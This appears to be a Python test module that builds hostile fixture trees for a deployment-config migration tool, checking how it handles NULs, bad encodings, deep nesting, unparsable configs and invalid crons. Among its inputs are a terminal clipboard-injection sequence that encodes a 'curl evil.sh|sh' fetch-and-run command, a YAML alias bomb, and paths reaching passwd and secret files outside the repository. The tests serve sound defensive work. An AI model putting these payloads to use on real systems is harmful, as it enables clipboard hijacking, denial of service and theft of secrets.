"""Hostile cases about what files hold: NULs, invalid UTF-8, deep nesting, unparsable configs of every
kind, escape sequences in names and contents, colliding names, invalid crons and hostile migrate.toml."""

from __future__ import annotations

import json
import os

from tests.hostile.case import SLOW_TIMEOUT, case
from tests.hostile.runner import Outcome
from tests.hostile.tree import Tree

DEEP = 100_000

# -- bytes -----------------------------------------------------------------------------------------


@case("nul-bytes", "NULs past the binary sniffing window (Procfile), at the start (requirements.txt) and "
      "inside lines (crontab, a unit, .env)")
def _(t: Tree) -> None:
    t.base()
    t.file("Procfile", b"# " + b"x" * 9000 + b"\nweb: gunicorn shop.wsgi\x00:application\n")
    t.file("requirements.txt", b"\x00django==4.2\n")
    t.file("crontab", b"0 3 * * * /srv/shop/bin/nightly\x00.sh\n")
    t.file("deploy/systemd/shop.service", b"[Service]\nExecStart=/srv/shop/venv/bin/gunicorn\x00 shop.wsgi\n")
    t.file(".env", b"SHOP_MODE=pro\x00d\n")


@case("invalid-utf8-contents", "invalid UTF-8 in every config kind, and a hand-written Latin-1 MIGRATION.md "
      "(issue: it stopped generate)")
def _(t: Tree) -> None:
    t.base()
    bad = b"\xff\xfe\xc3\x28"
    t.file("Procfile", b"web: gunicorn shop.wsgi --name caf\xe9 " + bad + b"\n")
    t.file("crontab", b"0 3 * * * /srv/shop/bin/r\xe9sum\xe9.sh\n")
    t.file("deploy/systemd/shop.service", b"[Unit]\nDescription=Boutique \xe9t\xe9\n[Service]\nExecStart=/bin/true\n")
    t.file("deploy/supervisord.conf", b"[program:web]\ncommand=gunicorn shop.wsgi " + bad + b"\n")
    t.file("deploy/nginx/nginx.conf", b"server { server_name caf\xe9.example; listen 80; }\n")
    t.file("fabfile.py", b"# -*- coding: latin-1 -*-\nfrom fabric.api import run\ndef deploy():\n"
                         b"    run('echo \xe9t\xe9')\n")
    t.file("MIGRATION.md", "# Migration \u00e9t\u00e9 2019\nNotes de d\u00e9ploiement.\n".encode("latin-1"))


@case("invalid-utf8-names", "file names that are not UTF-8 (a unit, a script, a crontab in cron.d)")
def _(t: Tree) -> None:
    t.base()
    root = os.fsencode(t.repo)
    for rel, content in ((b"deploy/systemd/caf\xe9.service", b"[Service]\nExecStart=/srv/shop/bin/caf\xe9\n"),
                         (b"scripts/\xff\xfe.sh", b"#!/bin/sh\necho hi\n"),
                         (b"deploy/cron.d/r\xe9port", b"0 4 * * * root /srv/shop/bin/report\n")):
        path = os.path.join(root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as fh:
            fh.write(content)


# -- nesting -----------------------------------------------------------------------------------------


@case("deep-json", "app.json, package.json and Pipfile.lock nested 100,000 deep (issue: one Pipfile.lock "
      "dropped the pipenv analyzer)")
def _(t: Tree) -> None:
    t.base()
    t.file("app.json", "[" * DEEP + "]" * DEEP)
    t.file("package.json", '{"a":' * DEEP + "1" + "}" * DEEP)
    t.file("Pipfile", '[packages]\ndjango = "==4.2"\n[requires]\npython_version = "3.11"\n')
    t.file("Pipfile.lock", '{"default": ' + "[" * DEEP + "]" * DEEP + "}")


@case("deep-toml", "pyproject.toml and setup.cfg-adjacent TOML nested 100,000 deep")
def _(t: Tree) -> None:
    t.base()
    t.file("pyproject.toml", "[project]\nname = \"shop\"\ndependencies = " + "[" * DEEP + "]" * DEEP + "\n")
    t.file("tools/ruff.toml", "x = " + "{a = " * 5000 + "1" + "}" * 5000 + "\n")


@case("deep-yaml-manifest", "a hand-edited manifest nested 100,000 deep, and one with a billion-laughs "
      "alias bomb, both recorded in state.json so the writer merges them (today 12 s to a RecursionError: "
      "a longer timeout, so the verdict is about the outcome, not the load)", timeout=60.0)
def _(t: Tree) -> None:
    t.base()
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(8))
    files = {"deploy/k8s/base/deployment-web.yaml": "spec: " + "[" * DEEP + "]" * DEEP + "\n",
             "deploy/k8s/base/service-web.yaml": bomb}
    t.files(files)
    state = {p: {"sha256": "0" * 64, "content": "apiVersion: v1\nkind: Service\n"} for p in files}
    t.file(".migrate/state.json", json.dumps({"version": 1, "files": state}))


@case("deep-state-json", ".migrate/state.json nested 100,000 deep")
def _(t: Tree) -> None:
    t.base()
    t.file(".migrate/state.json", '{"version": 1, "files": ' + "[" * DEEP + "]" * DEEP + "}")


@case("deep-code-and-configs", "Python nested 10,000 deep, a deploy.sh of 5,000 nested $( ), nginx with "
      "100,000 open braces, a Makefile of 10,000 nested $(")
def _(t: Tree) -> None:
    t.base()
    t.file("shop/deep.py", "X = " + "(" * 10_000 + "1" + ")" * 10_000 + "\n")
    t.file("shop/deeplist.py", "Y = " + "[" * DEEP + "]" * DEEP + "\n")
    t.file("deploy.sh", "#!/bin/sh\necho " + "$(" * 5000 + "x" + ")" * 5000 + "\n")
    t.file("deploy/nginx/nginx.conf", "server {" * DEEP + "\n")
    t.file("Makefile", "deploy:\n\techo " + "$(" * 10_000 + "\n")


# -- unparsable configs of every kind the analyzers read ------------------------------------------


@case("unparsable-python", "fabfile.py, setup.py, gunicorn.conf.py, settings and manage.py that do not "
      "parse (Python 2, syntax errors, tabs mixed with spaces)")
def _(t: Tree) -> None:
    t.base()
    t.files({
        "fabfile.py": "from fabric.api import *\ndef deploy():\n    print 'deploying'\n    run('cd /srv && ls'\n",
        "setup.py": "from setuptools import setup\nsetup(name='shop', install_requires=[\n",
        "gunicorn.conf.py": "bind = '0.0.0.0:8000\nworkers = \n",
        "shop/settings.py": "import os\nSECRET_KEY = os.environ['SECRET_KEY'\nif True:\n\tx = 1\n        y = 2\n",
        "manage.py": "#!/usr/bin/env python\nexec 'print 1'\n",
        "shop/tasks.py": "from celery import shared_task\n@shared_task\ndef job(:\n    pass\n",
    })


@case("unparsable-host-configs", "systemd units, supervisord, nginx, uwsgi, crontab, Procfile, Makefile and "
      "shell scripts that do not parse")
def _(t: Tree) -> None:
    t.base()
    t.files({
        "deploy/systemd/shop.service": "[Service\nExecStart=\\\nEnvironment=\"A=1\nUser=\n[]\n=x\n",
        "deploy/systemd/shop.timer": "[Timer]\nOnCalendar=Mon..Sun 99:99\nOnUnitActiveSec=forever\n",
        "deploy/supervisord.conf": "[program:web\ncommand\n[program:]\nnumprocs=-3\nenvironment=A=\"1,B=2\n",
        "deploy/nginx/nginx.conf": "server { listen 80; location / { proxy_pass \"http://x;\n} } }}} {\n",
        "uwsgi.ini": "[uwsgi\nhttp = :%(port)\nmodule\nprocesses = many\n",
        "crontab": "* * *\n@@@\n0 0 * *\nMAILTO\n",
        "Procfile": ":\nweb\n: gunicorn\nweb: \nweb: gunicorn a:b\nweb: gunicorn c:d\n",
        "Makefile": "deploy:\n\tcd /srv && $(MAKE\n\t'unterminated\n",
        "deploy.sh": "#!/bin/bash\ncat <<EOF\nno end\nif then fi\necho \"unterminated\n",
        "bin/restart.sh": "#!/bin/sh\n$((1 +\n)))\n`\n",
    })


@case("unparsable-data-files", "app.json, package.json, Pipfile, Pipfile.lock, pyproject.toml, setup.cfg, "
      "requirements that include themselves, runtime.txt, .python-version and .env that do not parse")
def _(t: Tree) -> None:
    t.base()
    t.files({
        "app.json": '{"name": "shop", "env": {"A": ',
        "package.json": "{'scripts': {start: node}}",
        "Pipfile": "[packages\ndjango = \n",
        "Pipfile.lock": "{\"default\": {\"django\": 5}}}",
        "pyproject.toml": "[project\nname = shop\n",
        "setup.cfg": "[metadata\nname\n[options]\ninstall_requires =\n\t\x1b\n",
        "requirements.txt": "-r requirements.txt\n-r requirements/base.txt\n-c ../../outside.txt\n===\n",
        "requirements/base.txt": "-r ../requirements.txt\ndjango>=\n",
        "runtime.txt": "python-three\n",
        ".python-version": "system 3.x\n",
        ".env": "=\nexport\n\"A=1\nB='\n",
    })


# -- migrate.toml ------------------------------------------------------------------------------------


def _names_migrate_toml(command: str, outcome: Outcome) -> list[str]:
    if outcome.returncode == 1 and "migrate.toml" not in outcome.stderr:
        return [f"{command} exits 1 without naming migrate.toml: {outcome.stderr.strip()[:200]!r}"]
    return []


@case("toml-wrong-types", "migrate.toml with env = \"x\" and processes = 5 (issue: exit 3)", analyze=1,
      generate=1, check=_names_migrate_toml)
def _(t: Tree) -> None:
    t.base()
    t.file("migrate.toml", 'env = "x"\nprocesses = 5\n')


@case("toml-wrong-values", "migrate.toml: cpu_limit = \"banana\", port = \"eighty\", replicas = -5, health "
      "path 5, an env default that is a list", analyze=1, generate=1, check=_names_migrate_toml)
def _(t: Tree) -> None:
    t.base()
    t.file("migrate.toml", '[processes.web]\ncpu_limit = "banana"\nport = "eighty"\nreplicas = -5\n'
                           '[health]\npath = 5\n[env.MODE]\ndefault = [1, 2]\n')


@case("toml-invalid-syntax", "migrate.toml that is not TOML", analyze=1, generate=1, check=_names_migrate_toml)
def _(t: Tree) -> None:
    t.base()
    t.file("migrate.toml", "[generate\nimage = \n")


@case("toml-deep", "migrate.toml with a value nested 100,000 deep", analyze=1, generate=1,
      check=_names_migrate_toml)
def _(t: Tree) -> None:
    t.base()
    t.file("migrate.toml", "[generate]\nimage = " + "[" * DEEP + "]" * DEEP + "\n")


# -- escape sequences ----------------------------------------------------------------------------------

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"


@case("escape-names", "file names holding OSC title and clipboard sequences, a newline and a CR")
def _(t: Tree) -> None:
    t.base()
    t.file(f"deploy/systemd/{OSC_TITLE}.service", "[Service]\nExecStart=/srv/shop/venv/bin/celery -A shop beat\n")
    t.file(f"deploy/cron.d/{OSC_CLIPBOARD}", "0 5 * * * root /srv/shop/bin/report.sh\n")
    t.file("scripts/new\nline.sh", "#!/bin/sh\necho hi\n")
    t.file("scripts/carriage\rreturn.py", "import os\nprint(os.environ['CR_TOKEN'])\n")
    t.file("crontab", "0 1 * * * /srv/shop/scripts/new\\nline.sh\n")


@case("escape-contents", "OSC and CSI sequences in a Procfile (name and command), crontab, unit "
      "Description, .env and requirements")
def _(t: Tree) -> None:
    t.base()
    t.files({
        "Procfile": f"web: gunicorn shop.wsgi --name '{OSC_TITLE}'\nwork\x1b[31mer: celery -A shop worker\n",
        "crontab": f"0 3 * * * /srv/shop/bin/job.sh {OSC_CLIPBOARD}\nMAILTO=ops{OSC_TITLE}@example.com\n",
        "deploy/systemd/shop.service": f"[Unit]\nDescription=Shop {OSC_TITLE}\n[Service]\n"
                                       f"ExecStart=/srv/shop/venv/bin/gunicorn shop.wsgi\nEnvironment=MODE=\x1b[2J\n",
        ".env": f"SHOP_BANNER={OSC_CLIPBOARD}\n",
        "requirements.txt": f"django==4.2.11  # {OSC_TITLE}\ngunicorn==21.2.0\x07\n",
    })


# -- names ---------------------------------------------------------------------------------------------


def _deployments(outcome: Outcome) -> list[str]:
    return [p for p in outcome.written if p.startswith("deploy/k8s/base/deployment-")]


def _three_workers(command: str, outcome: Outcome) -> list[str]:
    if command in ("generate", "generate-force") and outcome.returncode == 0 and len(_deployments(outcome)) < 4:
        return [f"worker_1, worker-1 and Worker-1 (and web) gave {sorted(_deployments(outcome))}"]
    return []


@case("colliding-process-names", "worker_1, worker-1 and Worker-1 in a Procfile collide after sanitising",
      check=_three_workers)
def _(t: Tree) -> None:
    t.base()
    t.file("Procfile", "web: gunicorn shop.wsgi\nworker_1: celery -A shop worker -Q a\n"
                       "worker-1: celery -A shop worker -Q b\nWorker-1: celery -A shop worker -Q c\n")


def _all_401(command: str, outcome: Outcome) -> list[str]:
    if command in ("generate", "generate-force") and outcome.returncode == 0 and len(_deployments(outcome)) < 401:
        return [f"401 processes gave {len(_deployments(outcome))} Deployments"]
    return []


@case("many-colliding-processes", "401 processes whose names collide in pairs (issue: 202 Deployments)",
      check=_all_401, slow=True, timeout=SLOW_TIMEOUT)
def _(t: Tree) -> None:
    t.base()
    lines = ["web: gunicorn shop.wsgi"] + [f"q{i // 2}{'_' if i % 2 else '-'}x: celery -A shop worker -Q q{i}"
                                           for i in range(400)]
    t.file("Procfile", "\n".join(lines) + "\n")


# -- cron ----------------------------------------------------------------------------------------------

INVALID_CRONTAB = """\
# legacy jobs; some of these never worked
99 99 99 99 99 /srv/shop/bin/never.sh
*/0 * * * * /srv/shop/bin/step0.sh
60 24 32 13 8 /srv/shop/bin/overflow.sh
* * * * * * /six/field/every_second.sh
0 */5 * * * * /six/field/sync.sh
15 4 * * mon-fri /srv/shop/bin/weekdays.sh
"""


def _crons_checked(command: str, outcome: Outcome) -> list[str]:
    problems: list[str] = []
    if command == "analyze-json" and outcome.returncode == 0:
        report = json.loads(outcome.stdout)
        schedules = {s["name"]: s for s in report.get("schedules", [])}
        for s in schedules.values():
            if str(s.get("command", "")).lstrip("'\"").startswith("*"):
                problems.append(f"schedule {s['name']} runs {s['command']!r}")
        for name in ("never", "step0", "overflow", "every_second"):
            if name in schedules:
                problems.append(f"invalid cron line became schedule {name}: {schedules[name].get('schedule')}")
        if schedules.get("sync", {}).get("schedule") != "*/5 * * * *":
            problems.append(f"0 */5 * * * * (seconds first) gave {schedules.get('sync')}")
        warned = {w.get("line") for w in report.get("warnings", []) if w.get("file") == "crontab"}
        problems += [f"no warning for crontab line {n}" for n in (2, 3, 4, 5) if n not in warned]
    if command in ("generate", "generate-force"):
        problems += [f"CronJob written for an invalid line: {p}" for p in outcome.written
                     if any(bad in p for bad in ("never", "step0", "overflow", "every-second"))]
    return problems


@case("invalid-crons", "invalid schedules (99 99 99 99 99, */0, 60 24 32 13 8) and six-field lines",
      check=_crons_checked)
def _(t: Tree) -> None:
    t.base()
    t.file("crontab", INVALID_CRONTAB)
    t.file("deploy/cron.d/shop", "0 0 4 * * * root /srv/shop/bin/backup.sh\n0 3 * * * www-data /srv/shop/bin/tidy.sh\n")


@case("cron-3000", "3,000 crontab entries (issue: pr took 50 s)", slow=True, timeout=30.0)
def _(t: Tree) -> None:
    t.base()
    t.file("crontab", "".join(f"{i % 60} {i % 24} * * * /srv/shop/bin/job{i}.sh --batch {i}\n" for i in range(3000)))


# -- migrate's own state -------------------------------------------------------------------------------


@case("crafted-state-json", "state.json with paths out of the repo, wrong types and a stale absolute path")
def _(t: Tree) -> None:
    t.base()
    t.file("deploy/k8s/base/deployment-web.yaml", "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: x\n")
    t.file(".migrate/state.json", json.dumps({"version": "9", "files": {
        f"../../{t.outside.name}/passwd": {"sha256": "0" * 64},
        "/etc/hostname": {"sha256": "0" * 64},
        "Dockerfile": "not a table",
        "deploy/k8s/base/deployment-web.yaml": {"sha256": 5, "content": ["not", "text"]},
        "MIGRATION.md": {"sha256": None, "content": {"a": 1}},
    }}))


@case("weird-names", "names with spaces, leading dashes, unicode and 255 bytes")
def _(t: Tree) -> None:
    t.base()
    t.files({
        "-rf": "web: x\n", "--force": "", "deploy/systemd/-n.service": "[Service]\nExecStart=/bin/true\n",
        "scripts/with space.sh": "#!/bin/sh\necho hi\n", "scripts/\u00fcml\u00e4ut\u00f1.py": "print(1)\n",
        "deploy/cron.d/" + "j" * 255: "0 2 * * * root /srv/shop/bin/long.sh\n",
        "Procfile ": "web: gunicorn trailing:space\n",
    })


@case("path-references-out", "configs that name files outside: supervisor/nginx includes, EnvironmentFile, "
      "requirements -r, a Procfile running an outside script")
def _(t: Tree) -> None:
    t.base()
    out = t.outside
    t.files({
        "deploy/supervisord.conf": f"[include]\nfiles = ../../{out.name}/*.env {out}/*.toml /etc/*.conf\n",
        "deploy/nginx/nginx.conf": f"include {out}/passwd;\ninclude ../../../{out.name}/secret.env;\n"
                                   "server { listen 80; }\n",
        "deploy/systemd/shop.service": f"[Service]\nEnvironmentFile={out}/secret.env\n"
                                       f"EnvironmentFile=../../../{out.name}/secret.env\n"
                                       "ExecStart=/srv/shop/venv/bin/gunicorn shop.wsgi\n",
        "requirements.txt": f"-r ../{out.name}/requirements.txt\n-r {out}/requirements.txt\ndjango==4.2\n",
        "Procfile": f"web: gunicorn shop.wsgi\nsync: sh {out}/passwd\n",
    })


@case("empty-bom-crlf", "empty configs, a UTF-8 BOM and CRLF line endings everywhere")
def _(t: Tree) -> None:
    t.base()
    t.files({
        "Procfile": "\ufeffweb: gunicorn shop.wsgi:application --bind 0.0.0.0:$PORT\r\n"
                    "worker: celery -A shop worker\r\n",
        "crontab": "\ufeff30 2 * * * /srv/shop/bin/nightly.sh\r\n",
        "deploy/systemd/shop.service": "\ufeff[Service]\r\nExecStart=/srv/shop/venv/bin/gunicorn shop.wsgi\r\n",
        "requirements.txt": "",
        "runtime.txt": "",
        "app.json": "",
        "deploy/supervisord.conf": "",
        "migrate.toml": "",
        "fabfile.py": "",
    })
